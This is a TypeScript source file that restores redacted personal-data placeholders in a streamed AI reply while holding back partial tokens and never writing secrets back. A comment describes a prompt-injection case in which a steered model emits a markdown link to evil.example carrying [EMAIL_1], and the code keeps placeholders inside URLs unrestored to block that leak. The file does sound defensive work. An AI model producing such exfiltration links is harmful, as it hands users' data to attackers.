import type { EntityType } from "../types";
import { ENTITY_TYPES } from "./find";
import { MAX_PLACEHOLDER_INDEX } from "./placeholders";

/** Longest unfinished placeholder: "[SECRET_999999" (the closing bracket would finish it). */
const MAX_PARTIAL = 1 + Math.max(...ENTITY_TYPES.map((type) => type.length)) + 1 + String(MAX_PLACEHOLDER_INDEX).length;

const PLACEHOLDER = new RegExp(`\\[(?:${ENTITY_TYPES.join("|")})_[1-9]\\d{0,5}\\]`, "g");
/** How much of the current word is remembered to tell a URL from prose. */
const MAX_WORD = 2_048;
/**
 * A placeholder inside a URL stays a placeholder: a model steered by an injection could write
 * `[verify](https://evil.example/?e=[EMAIL_1])`, and restoring the value there would hand it to
 * whoever made the link as soon as the person clicks. In prose it is restored.
 */
const IN_URL = /[=/?&#%]|^www\.|\]\(/i;

/**
 * Restores placeholders in a streamed reply. A chunk may end inside a placeholder ("… at [EMA"),
 * so the end of each chunk that could still become one is held back until the next chunk decides
 * it; everything else is returned at once. At most {@link MAX_PARTIAL} characters are ever held,
 * and each character is looked at a bounded number of times, so a stream costs linear time.
 */
export class PlaceholderRestorer {
  #held = "";
  /** The end of the text already restored that has no whitespace: the word a placeholder would be part of. */
  #word = "";

  readonly #keep: ReadonlySet<EntityType>;

  /**
   * `keep`: types whose placeholders stay as they are. By default SECRET: a key or password the person
   * pasted is not written back into the reply, because output secrets never reach the browser (the
   * output guard redacts them) and the reply is saved with the conversation.
   */
  constructor(
    private readonly map: { restore(text: string): string },
    { keep = ["SECRET"] }: { keep?: readonly EntityType[] } = {},
  ) {
    this.#keep = new Set(keep);
  }

  /** Text that is safe to show now, with placeholders restored. */
  push(chunk: string): string {
    const text = this.#held + chunk;
    const cut = unfinishedPlaceholderStart(text);
    this.#held = text.slice(cut);
    return this.#restore(text.slice(0, cut));
  }

  /** Whatever was held back, at the end of the stream. */
  end(): string {
    const rest = this.#held;
    this.#held = "";
    return this.#restore(rest);
  }

  #restore(text: string): string {
    const word = this.#word;
    const restored = text.includes("[")
      ? text.replace(PLACEHOLDER, (placeholder: string, offset: number) => {
          // Bounded look-back, so many placeholders in one chunk still cost linear time.
          const before = text.slice(Math.max(0, offset - MAX_WORD), offset);
          const inWord = currentWord(/\s/.test(before) ? before : word + before);
          if (this.#keep.has(placeholder.slice(1, placeholder.indexOf("_")) as EntityType)) return placeholder;
          return IN_URL.test(inWord) ? placeholder : this.map.restore(placeholder);
        })
      : text;
    this.#word = currentWord(word + text).slice(-MAX_WORD);
    return restored;
  }
}

/** The trailing run of non-whitespace characters, looking back at most MAX_WORD characters. */
function currentWord(text: string): string {
  const tail = text.slice(-MAX_WORD);
  const space = tail.search(/\s\S*$/);
  return space === -1 ? tail : tail.slice(space + 1);
}

/** Where a possible unfinished placeholder starts at the end of `text`, or `text.length`. */
function unfinishedPlaceholderStart(text: string): number {
  const open = text.lastIndexOf("[");
  if (open === -1 || text.length - open > MAX_PARTIAL) return text.length;
  return couldBecomePlaceholder(text.slice(open + 1)) ? open : text.length;
}

/** "EMA", "EMAIL_", "EMAIL_12": what may follow "[" in a placeholder not yet closed. */
function couldBecomePlaceholder(rest: string): boolean {
  const underscore = rest.indexOf("_");
  if (underscore === -1) return ENTITY_TYPES.some((type) => type.startsWith(rest));
  const type = rest.slice(0, underscore);
  const digits = rest.slice(underscore + 1);
  return ENTITY_TYPES.includes(type as EntityType) && /^(?:[1-9]\d{0,5})?$/.test(digits);
}
